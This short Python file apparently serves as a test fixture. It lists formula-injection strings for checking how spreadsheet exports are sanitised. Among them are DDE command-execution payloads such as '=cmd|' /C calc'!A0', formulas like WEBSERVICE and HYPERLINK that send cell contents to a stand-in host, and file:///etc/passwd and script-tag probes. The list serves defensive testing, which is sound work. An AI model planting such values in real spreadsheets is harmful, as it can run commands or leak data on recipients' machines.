"""Texts that a spreadsheet program might run, follow or turn into something else."""

_RUN = [
    "=1+1", "=SUM(A1:A9)", "=A1", "==1", "= 1+1", "+1+1", "-1+1", "@SUM(1+1)", "+A1", "-A1", "@A1", "=+1", "=-1", "=@A1",
    "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"a\")",
    "=MSEXCEL|'\\..\\..\\calc.exe'!''", "=rundll32|'URL.dll,OpenURL calc.exe'!A", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u3000=1+1",
    "\u00a0=1+1", "\ufeff=1+1", "'=1+1", "''=1+1", "\"=1+1", "\";=1+1", "\",=1+1", ";=1+1", ",=1+1", "{=1+1}", "=1+1\n=2+2", "a\n=1+1",
    "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "%0A=1+1", "=IF(TRUE,\"x\",\"y\")",
]  # fmt: skip
_FOLLOWED = [
    '=HYPERLINK("http://a.example/?"&A1,"x")', '=WEBSERVICE("http://a.example/"&A1)', '=IMPORTXML("http://a.example","//a")',
    '=IMPORTDATA("http://a.example")', '=IMAGE("http://a.example/a.png")', "='http://a.example/[a.xlsx]Sheet1'!A1", "='file:///etc/passwd'#$a.A1",
    "http://a.example/x", "https://a.example", "mailto:a@b.example", "file:///etc/passwd", "ftp://a.example", "\\\\a.example\\share\\x",
    "internal:Sheet1!A1", "external:c:\\x.xlsx", "#Sheet1!A1", "javascript:alert(1)", "data:text/html,x",
]  # fmt: skip
_TURNED = ["<script>alert(1)</script>", "_x003D_1+1", "_x0041_", "&#61;1+1", "TRUE年", "#N/A", "#REF!", "''", "R1C1"]
PAYLOADS = [*_RUN, *_FOLLOWED, *_TURNED]
